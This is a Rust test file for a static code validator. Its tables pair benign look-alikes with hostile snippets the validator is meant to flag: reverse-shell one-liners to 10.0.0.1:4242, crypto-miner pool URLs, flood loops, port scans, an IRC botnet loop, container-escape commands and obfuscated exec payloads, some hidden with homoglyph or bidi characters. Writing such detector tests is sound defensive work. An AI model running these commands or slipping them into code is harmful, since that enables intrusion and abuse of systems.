//! The rules, one by one: what they find, and what they leave alone.

use std::{fs, path::Path};

use sless_core::{Runtime, Validator, Verdict, source::SourceTree};
use sless_validator::StaticValidator;

use crate::corpus::attempts;

async fn verdict(files: &[(String, String)]) -> Verdict {
    let source = SourceTree::from_files(files.to_vec()).unwrap();
    StaticValidator
        .validate(&source, Runtime::Python311)
        .await
        .unwrap()
}

async fn of(path: &str, text: &str) -> Verdict {
    verdict(&[(path.to_owned(), text.to_owned())]).await
}

/// A file, the line that is found, and the check.
const FOUND: &[(&str, &str, usize, &str)] = &[
    (
        "a.py",
        "URL = 'stratum+tcp://pool.example:3333'",
        1,
        "mining",
    ),
    (
        "a.json",
        "{\n\"scripts\": {\"postinstall\": \"./xmrig -o pool\"}}",
        2,
        "mining",
    ),
    (
        "a.js",
        "\n\nfetch('https://xmr.2miners.com/x')",
        3,
        "mining",
    ),
    (
        "a.sh",
        "#!/bin/sh\n./minerd -a cryptonight &\n",
        2,
        "mining",
    ),
    (
        "a.py",
        "import socket\n\ndef udp_flood(host):\n    pass",
        3,
        "denial of service",
    ),
    (
        "a.js",
        "async function httpFlood(url) { for (;;) await fetch(url) }",
        1,
        "denial of service",
    ),
    (
        "a.py",
        "import socket\ndef flood(host):\n    socket.socket()",
        2,
        "denial of service",
    ),
    (
        "a.py",
        "from scapy.all import *\nsend(IP(dst=t)/TCP(flags='S'), loop=1)",
        2,
        "denial of service",
    ),
    (
        "a.py",
        "s = socket.socket(AF_INET, SOCK_DGRAM)\nwhile True:\n    s.sendto(random._urandom(1024), t)",
        3,
        "denial of service",
    ),
    (
        "a.py",
        "import os, socket\ns.send(b'JOIN #x\\r\\n')\nif 'PRIVMSG' in line:\n    os.system(line)",
        2,
        "botnet",
    ),
    (
        "a.py",
        "import nmap\nnmap.PortScanner().scan(h)",
        1,
        "port scanning",
    ),
    (
        "a.py",
        "subprocess.run(['nmap', '-sS', host])",
        1,
        "port scanning",
    ),
    (
        "a.js",
        "exec(`masscan -p1-65535 ${host}`)",
        1,
        "port scanning",
    ),
    (
        "a.py",
        "for port in range(1, 1025):\n    if s.connect_ex((host, port)) == 0:\n        print(port)",
        2,
        "port scanning",
    ),
    (
        "a.py",
        "import socket\nfor p in range(1, 65536):\n    socket.create_connection((h, p))",
        2,
        "port scanning",
    ),
    (
        "a.js",
        "for (let port = 1; port <= 65535; port++) { net.connect(port, h) }",
        1,
        "port scanning",
    ),
    (
        "a.go",
        "for port := 1; port <= 65535; port++ {\n net.DialTimeout(\"tcp\", a, t)\n}",
        1,
        "port scanning",
    ),
    (
        "a.sh",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        1,
        "reverse shell",
    ),
    (
        "a.py",
        "os.system('nc -e /bin/sh 10.0.0.1 4242')",
        1,
        "reverse shell",
    ),
    (
        "a.py",
        "subprocess.run([\"ncat\", \"10.0.0.1\", \"4242\", \"-e\", \"/bin/bash\"])",
        1,
        "reverse shell",
    ),
    (
        "a.py",
        "os.system('rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 >/tmp/f')",
        1,
        "reverse shell",
    ),
    (
        "a.py",
        "import socket, subprocess, os\ns = socket.socket()\ns.connect((h, p))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
        4,
        "reverse shell",
    ),
    (
        "a.py",
        "import pty\npty.spawn(\"/bin/bash\")",
        2,
        "reverse shell",
    ),
    (
        "a.py",
        "import socket\nwhile True:\n    s.connect(c2)\n    data = s.recv(1024)\n    out = subprocess.check_output(data, shell=True)",
        5,
        "command and control",
    ),
    (
        "a.js",
        "const net = require('net');\nconst sh = require('child_process').spawn('/bin/sh', []);\nc.pipe(sh.stdin);",
        2,
        "reverse shell",
    ),
    (
        "a.go",
        "c, _ := net.Dial(\"tcp\", h)\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = c",
        2,
        "reverse shell",
    ),
    (
        "a.py",
        "C = docker.DockerClient(base_url='unix:///var/run/docker.sock')",
        1,
        "container escape",
    ),
    (
        "a.py",
        concat!("open('/proc/1/ro", "ot/etc/shadow')"),
        1,
        "container escape",
    ),
    ("a.sh", "nsenter -t 1 -m -u -i -n sh", 1, "container escape"),
    (
        "a.py",
        "open('/proc/sys/kernel/core_pattern', 'w')",
        1,
        "container escape",
    ),
    ("a.sh", "mount /dev/sda1 /mnt", 1, "container escape"),
    (
        "a.py",
        "subprocess.run(['docker', 'run', '--privileged', 'x'])",
        1,
        "container escape",
    ),
    (
        "a.py",
        "exec(base64.b64decode('cHJpbnQoMSk='))",
        1,
        "obfuscation",
    ),
    (
        "a.py",
        "eval(compile(zlib.decompress(base64.b64decode(x)), 'x', 'exec'))",
        1,
        "obfuscation",
    ),
    (
        "a.py",
        "exec(__import__('base64').b64decode(x))",
        1,
        "obfuscation",
    ),
    (
        "a.py",
        "exec(\n    bytes.fromhex('70')\n)",
        1,
        "obfuscation",
    ),
    (
        "a.py",
        "import base64\ncode = base64.b64decode(x).decode()\nprint(1)\nexec(code)",
        4,
        "obfuscation",
    ),
    ("a.py", "exec(marshal.loads(x))", 1, "obfuscation"),
    (
        "a.py",
        "exec(''.join(chr(c) for c in [112, 114]))",
        1,
        "obfuscation",
    ),
    ("a.py", "m = __import__('so'[::-1])", 1, "obfuscation"),
    (
        "a.py",
        "exec(open('logo.png', 'rb').read())",
        1,
        "obfuscation",
    ),
    ("a.js", "eval(atob('YWxlcnQoMSk='))", 1, "obfuscation"),
    (
        "a.js",
        "new Function(Buffer.from(x, 'base64').toString())()",
        1,
        "obfuscation",
    ),
    (
        "a.js",
        "const code = Buffer.from(x, 'base64').toString();\neval(code)",
        2,
        "obfuscation",
    ),
    (
        "a.js",
        "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))",
        1,
        "obfuscation",
    ),
    ("a.sh", "echo $X | base64 -d | sh", 1, "obfuscation"),
    // As Python reads names; and what nobody sees is not there.
    ("a.py", "ｅxec(base64.b64decode(x))", 1, "obfuscation"),
    (
        "a.js",
        "const pool = 'strat\u{200b}um+tcp://x'",
        1,
        "mining",
    ),
    (
        "a.py",
        "x = 1\nif access != 'user\u{202e} \u{2066}# admin\u{2069} \u{2066}':\n    pass",
        2,
        "obfuscation",
    ),
];

#[tokio::test]
async fn the_plain_cases_are_found_with_file_and_line() {
    for (path, text, line, check) in FOUND {
        let verdict = of(path, text).await;
        assert!(
            matches!(verdict, Verdict::Unsafe { .. }),
            "{text:?}: {verdict:?}"
        );
        let expected = format!("{path}:{line}: {check}: ");
        assert!(
            verdict.reason().starts_with(&expected),
            "{text:?}: {verdict:?}, not {expected}"
        );
    }
}

/// What looks alike and is none of it.
const LEFT: &[(&str, &str)] = &[
    (
        "a.py",
        "# xmrig and minerd are refused here\n    # stratum+tcp://x\nx = 1",
    ),
    ("a.js", "// eval(atob(x)) is what we do not do\nconst x = 1"),
    ("a.txt", "xmrig\nslowloris\nnmap"),
    (
        "a.py",
        "import base64\nimage = base64.b64decode(event['image'])\nImage.open(io.BytesIO(image))",
    ),
    (
        "a.py",
        "model = eval(expression)\ndata = base64.b64decode(x)",
    ),
    (
        "a.py",
        "cursor.execute(zlib.decompress(query))\nregex.exec(x)",
    ),
    (
        "a.js",
        "const m = /a/.exec(Buffer.from(x, 'base64').toString())",
    ),
    (
        "a.js",
        "const text = atob(event.body); return JSON.parse(text)",
    ),
    (
        "a.py",
        "for port in range(8000, 9000):\n    if s.connect_ex(('localhost', port)) != 0:\n        return port",
    ),
    (
        "a.py",
        "import subprocess\nsubprocess.run(['convert', path])",
    ),
    (
        "a.js",
        "spawn('sh', ['-c', 'ls']).stdout.pipe(process.stdout)",
    ),
    (
        "a.sh",
        "#!/bin/bash\nuntil (echo > /dev/tcp/db/5432); do sleep 1; done",
    ),
    (
        "a.py",
        "def flood_fill(grid, x, y):\n    pass\nimport socket",
    ),
    ("a.py", "s.sendto(payload, address)\nSOCK_DGRAM"),
    (
        "a.py",
        "sys.stdout = os.fdopen(os.dup2(log.fileno(), 1), 'w')",
    ),
    (
        "a.js",
        "for (let page = 1; page <= 1000; page++) { client.connect(page) }",
    ),
    ("a.py", "exec(open('version.py').read())"),
    (
        "a.py",
        "__import__('pkg_resources').declare_namespace(__name__)",
    ),
    (
        "a.yaml",
        "volumes:\n  - /var/run/docker.sock:/var/run/docker.sock",
    ),
    ("a.py", "with open('/proc/1/cgroup') as f: pass"),
    ("a.py", "NAME = 'سلام'\nFAMILY = '👨\u{200d}👩\u{200d}👧'"),
    ("a.sh", "mount -t tmpfs none /tmp/x"),
    ("node_modules/a.js", "eval(atob(x))"),
    ("a.bin", "exec(base64.b64decode(x))"),
];

#[tokio::test]
async fn what_looks_alike_is_left_alone() {
    for (path, text) in LEFT {
        let verdict = of(path, text).await;
        assert!(
            !matches!(verdict, Verdict::Unsafe { .. }),
            "{text:?}: {verdict:?}"
        );
    }
}

#[tokio::test]
async fn no_attempt_to_talk_turns_them() {
    for attempt in attempts() {
        let verdict = verdict(&attempt.files).await;
        assert!(
            matches!(verdict, Verdict::Unsafe { .. }),
            "{}: {verdict:?}",
            attempt.name
        );
    }
}

fn sources(folder: &Path, files: &mut Vec<(String, String)>) {
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            sources(&path, files);
        } else if let Ok(text) = fs::read_to_string(&path) {
            files.push((path.file_name().unwrap().to_str().unwrap().to_owned(), text));
        }
    }
}

#[tokio::test]
async fn the_example_functions_are_safe() {
    let mut files = Vec::new();
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/functions");
    sources(&examples, &mut files);
    assert!(files.len() >= 8, "{}", files.len());
    for file in files {
        let verdict = verdict(std::slice::from_ref(&file)).await;
        assert!(
            !matches!(verdict, Verdict::Unsafe { .. }),
            "{}: {verdict:?}",
            file.0
        );
    }
}
